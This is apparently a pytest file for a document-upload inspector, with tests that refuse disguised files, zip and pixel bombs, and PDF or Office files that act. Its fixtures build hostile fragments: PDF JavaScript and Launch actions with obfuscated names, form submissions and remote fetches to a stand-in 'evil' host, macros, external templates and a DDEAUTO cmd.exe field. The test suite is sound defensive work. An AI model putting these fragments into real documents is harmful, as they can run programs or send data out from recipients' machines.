"""What a file really is (F1, F3, F10): refused by its content, at once and with the reason."""

from __future__ import annotations

import io
import time
import warnings
import zipfile
from collections.abc import Callable
from pathlib import Path

import openpyxl
import pytest
from pypdf import PdfReader, PdfWriter

from documents.inspection import Refused, inspect
from documents.naming import kind_of
from tests.documents import corpus
from tests.documents.corpus import office, pdf, relation

DISGUISES = corpus.disguises()


def refusal(name: str, content: bytes) -> Refused:
    with pytest.raises(Refused) as refused:
        inspect(io.BytesIO(content), kind_of(name))
    return refused.value


def passes(name: str, content: bytes) -> None:
    inspect(io.BytesIO(content), kind_of(name))


# --- F1 ---------------------------------------------------------------------------


def test_the_corpus_is_as_large_as_promised() -> None:
    assert len(DISGUISES) >= 100


@pytest.mark.parametrize("key", DISGUISES)
def test_every_disguise_is_refused_with_a_reason(key: str) -> None:
    words = refusal(*DISGUISES[key]).words
    assert words.startswith(("的", "里", "内", "末", "不"))
    assert words.endswith("。")


@pytest.mark.parametrize(
    ("word", "seems"),
    [("html", "网页"), ("exe", "程序"), ("old word", "旧版或加密的 Office 文件"), ("gif", "GIF")],
)
def test_the_reason_says_what_it_seems_to_be(word: str, seems: str) -> None:
    assert seems in refusal("执照.pdf", corpus.OTHERS[word]).words


def workbook() -> bytes:
    """A workbook as an office program writes it, with a link that a reader clicks."""
    book = openpyxl.Workbook()
    book.active.append(["姓名", "工种"])
    book.active["A2"] = "甲"
    book.active["A2"].hyperlink = "https://example.org/"
    made = io.BytesIO()
    book.save(made)
    return made.getvalue()


def paper() -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(595, 842)
    made = io.BytesIO()
    writer.write(made)
    return made.getvalue()


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("甲.pdf", corpus.SAMPLE),
        ("乙.pdf", paper()),
        ("丙.pdf", pdf(page="/Annots[<</Subtype/Link/F 4/A<</S/URI/URI(https://www.gov.cn/)>>>>]")),
        ("丙.pdf", pdf(root="/OpenAction[3 0 R/Fit]")),
        ("丁.pdf", pdf("<</S/URI/URI(https://example.org/)>>", page="/Annots[<</Subtype/Link/A 10 0 R>>]")),
        ("戊.pdf", pdf(root="/AcroForm<</Fields[]/SigFlags 3>>")),
        ("己.pdf", pdf(tail=b"\r\n\x00\x00\n")),
        ("庚.jpg", corpus.picture()),
        ("辛.png", corpus.picture("PNG")),
        ("壬.docx", office(relations=relation("hyperlink", "https://example.org/"))),
        ("癸.docx", office(parts={"word/media/image1.png": corpus.picture("PNG")})),
        ("子.xlsx", workbook()),
    ],
)
def test_what_people_bring_passes(name: str, content: bytes) -> None:
    passes(name, content)


def appended() -> bytes:
    """A document behind another's first part, with a directory that knows where it stands."""
    front = io.BytesIO(b"PK\x03\x04" + b"hidden" * 20)
    front.seek(0, 2)
    with zipfile.ZipFile(io.BytesIO(office())) as source, zipfile.ZipFile(front, "a") as archive:
        for entry in source.infolist():
            archive.writestr(entry, source.read(entry))
    return front.getvalue()


@pytest.mark.parametrize("content", [b"PK\x03\x04hidden" + office(), appended()])
def test_nothing_hides_in_front_of_a_document(content: bytes) -> None:
    assert refusal("材料.docx", content).code == "polyglot"


@pytest.mark.parametrize(
    ("name", "content", "code"),
    [
        ("材料.pdf", corpus.HTML, "signature"),
        ("材料.docx", corpus.SAMPLE, "signature"),
        ("材料.png", corpus.picture(), "signature"),
        ("材料.docx", office("xlsx"), "signature"),
        ("材料.docx", office() + corpus.OTHERS["exe"], "polyglot"),
    ],
)
def test_the_first_look_that_can_tell_does(name: str, content: bytes, code: str) -> None:
    assert refusal(name, content).code == code


# --- F3 ---------------------------------------------------------------------------


def peak_megabytes() -> float:
    status = Path("/proc/self/status").read_text()
    return int(status.partition("VmHWM:")[2].split()[0]) / 1024


def cost_of(act: Callable[[], object]) -> tuple[float, float]:
    """Seconds of this process (the machine may be busy) and megabytes that it grew by at its peak."""
    Path("/proc/self/clear_refs").write_text("5")  # the peak starts anew
    before, start = peak_megabytes(), time.process_time()
    act()
    return time.process_time() - start, peak_megabytes() - before


BOMBS = {
    "workbook of 285 MB": ("册.xlsx", corpus.bomb, "解压后过大"),
    "100,000 entries": ("报告.docx", corpus.crowd, "解压后过大"),
    "directory that lies": ("报告.docx", corpus.lying, "不是完整的 DOCX"),
    "archive in an archive": (
        "报告.docx",
        lambda: office(parts={"word/media/image1.png": corpus.zipped({"deep.zip": b"0" * 1000})}),
        "内嵌了其他文件",
    ),
    "archive by name": ("报告.docx", lambda: office(parts={"word/more.zip": b"0"}), "内嵌了其他文件"),
    "picture of 2.5 thousand million pixels": ("照片.png", corpus.flood_png, "像素超过上限"),
}


@pytest.mark.parametrize("key", BOMBS)
def test_a_bomb_is_refused_before_it_is_opened(key: str) -> None:
    name, make, words = BOMBS[key]
    content = make()
    refused: list[Refused] = []
    seconds, megabytes = cost_of(lambda: refused.append(refusal(name, content)))
    assert words in refused[0].words
    assert seconds <= 0.1
    assert megabytes <= 50


def test_a_count_that_lies_does_not_make_a_large_directory_small() -> None:
    content = bytearray(corpus.crowd(60_000))
    content[-14:-10] = b"\x02\x00\x02\x00"
    seconds, megabytes = cost_of(lambda: refusal("报告.docx", bytes(content)))
    assert seconds <= 0.1
    assert megabytes <= 50


# --- F10: PDF ---------------------------------------------------------------------

SCRIPT, FILE = "脚本（JavaScript）", "嵌入的附件"
ACTIVE_PDF = {
    "script on opening": (pdf("<</S/JavaScript/JS(app.alert\\(1\\))>>", root="/OpenAction 10 0 R"), SCRIPT),
    "script that spells itself otherwise": (
        pdf("<</S/J#61vaScript/#4aS(x)>>", root="/OpenAction 10 0 R"),
        SCRIPT,
    ),
    "script in a compressed object": (corpus.hidden_script_pdf(), SCRIPT),
    "script that no table lists": (
        pdf().replace(b"xref\n0 1", b"99 0 obj\n<</S/JavaScript/JS(x)>>\nendobj\nxref\n0 1"),
        SCRIPT,
    ),
    "script that no table lists and that spells itself otherwise": (
        pdf().replace(b"xref\n0 1", b"99 0 obj\n<</S/J#61vaScript/J#53(x)>>\nendobj\nxref\n0 1"),
        SCRIPT,
    ),
    "named scripts": (pdf(root="/Names<</JavaScript<</Names[(a)<</JS(x)>>]>>>>"), SCRIPT),
    "program": (pdf("<</S/Launch/F(cmd.exe)>>", root="/OpenAction 10 0 R"), "启动程序"),
    "program behind a page": (pdf(page="/AA<</O<</S/Launch/F(a.exe)>>>>"), "启动程序"),
    "file": (
        pdf("<</Type/EmbeddedFile/Length 0>>\nstream\n\nendstream", root="/Names<</EmbeddedFiles<<>>>>"),
        FILE,
    ),
    "file as a note": (pdf(page="/Annots[<</Subtype/FileAttachment/FS<</EF<<>>>>>>]"), FILE),
    "form that sends": (pdf("<</S/SubmitForm/F(http://evil/)>>", root="/OpenAction 10 0 R"), "向外发送"),
    "film": (pdf(page="/Annots[<</Subtype/RichMedia>>]"), "多媒体"),
    "dynamic form": (pdf(root="/AcroForm<</XFA[]>>"), "动态表单"),
    "address on opening": (pdf(root="/OpenAction<</S/URI/URI(http://evil/)>>"), "向外发送"),
    "address behind another action": (
        pdf("<</S/GoTo/D[3 0 R]/Next[11 0 R]>>", "<</S/UR#49/URI(http://e/)>>", root="/OpenAction 10 0 R"),
        "向外发送",
    ),
    "address behind a page": (pdf("<</O 11 0 R>>", "<</S/URI/URI(x)>>", page="/AA 10 0 R"), "向外发送"),
    "thread of another file": (pdf(page="/Annots[<</A<</S/Thread/F(//evil/a.pdf)/D 0>>>>]"), "向外发送"),
    "content from another machine": (
        pdf("<</Length 0/F(//evil/share/a)>>\nstream\n\nendstream", page="/Contents 10 0 R"),
        "向外发送",
    ),
    "other file": (pdf("<</S/GoToR/F(//evil/share)>>", root="/OpenAction 10 0 R"), "向外发送"),
}


@pytest.mark.parametrize("key", ACTIVE_PDF)
def test_a_pdf_that_acts_is_refused(key: str) -> None:
    content, word = ACTIVE_PDF[key]
    assert word in refusal("材料.pdf", content).words


def test_the_hidden_script_is_one_that_readers_find() -> None:
    content = corpus.hidden_script_pdf()
    assert b"JavaScript" not in content
    action = PdfReader(io.BytesIO(content)).trailer["/Root"]["/OpenAction"]
    assert action["/S"] == "/JavaScript"


@pytest.mark.parametrize("password", ["open", ""])
def test_a_locked_pdf_is_refused_with_the_way_out(password: str) -> None:
    writer = PdfWriter()
    writer.add_blank_page(100, 100)
    writer.encrypt(password, "owner", algorithm="AES-256")
    made = io.BytesIO()
    writer.write(made)
    assert "请取消，或“打印为 PDF”" in refusal("材料.pdf", made.getvalue()).words


@pytest.mark.parametrize(
    ("content", "words"),
    [
        (corpus.SAMPLE[: len(corpus.SAMPLE) // 2], "不完整"),
        (pdf().replace(b"/Kids[3 0 R]", b"/Kids[2 0 R]"), "不完整"),
        (pdf().replace(b"/Kids[3 0 R]", b"/Kids[]"), "不完整"),
        (pdf("<</Kids[3 0 R 3 0 R]>>").replace(b"/Kids[3 0 R]", b"/Kids[10 0 R 10 0 R]"), "不完整"),
        (b"%PDF-1.7\n" + b"[" * 20_000 + b"\n%%EOF\n", "不完整"),
    ],
)
def test_a_bent_pdf_is_refused(content: bytes, words: str) -> None:
    assert words in refusal("材料.pdf", content).words


def test_a_pdf_of_too_many_pages_is_refused() -> None:
    kids = b"[" + b"<</Type/Page>> " * 1_001 + b"]"
    assert "超过 1000 页" in refusal("材料.pdf", pdf().replace(b"/Kids[3 0 R]", b"/Kids" + kids)).words


# --- F10: Office ------------------------------------------------------------------

MACRO_TYPE = (
    '<Override PartName="/word/x" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>'
)
ACTIVE_OFFICE = {
    "macro": (office(parts={"word/vbaProject.bin": b"\xd0\xcf"}), "宏"),
    "macro of a workbook under its plain name": (office("xlsx", parts={"xl/vbaProject.bin": b"x"}), "宏"),
    "macro by type": (office(types=MACRO_TYPE), "宏"),
    "old macro sheet": (office("xlsx", parts={"xl/macrosheets/sheet1.xml": b"<x/>"}), "宏"),
    "object": (office(parts={"word/embeddings/oleObject1.bin": b"x"}), "内嵌"),
    "workbook inside": (office(parts={"word/embeddings/a.xlsx": office("xlsx")}), "内嵌"),
    "object under another name": (office(parts={"word/media/a.png": b"\xd0\xcf\x11\xe0\xa1"}), "内嵌"),
    "control": (office(parts={"word/activeX/activeX1.xml": b"<x/>"}), "内嵌"),
    "template from outside": (office(relations=relation("attachedTemplate", "http://evil/t.dotm")), "外部"),
    "picture from outside": (office(relations=relation("image", "http://evil/track.png")), "外部"),
    "workbook outside": (office("xlsx", parts={"xl/externalLinks/externalLink1.xml": b"<x/>"}), "外部"),
    "field that starts a program": (
        office(body='<w:document xmlns:w="x"><w:instrText>DDEAUTO c:\\\\cmd.exe</w:instrText></w:document>'),
        "DDE",
    ),
    "entities": (office(relations='"><!DOCTYPE x [<!ENTITY a "b">]>'), "不是"),
}


@pytest.mark.parametrize("key", ACTIVE_OFFICE)
def test_an_office_file_that_acts_is_refused(key: str) -> None:
    content, word = ACTIVE_OFFICE[key]
    name = "材料.xlsx" if b"xl/workbook.xml" in content and b"word/" not in content else "材料.docx"
    assert word in refusal(name, content).words


def test_an_office_file_with_a_password_is_refused() -> None:
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        content = bytearray(office())
    place = content.rfind(b"PK\x01\x02")
    content[place + 8] |= 1
    assert "密码" in refusal("材料.docx", bytes(content)).words
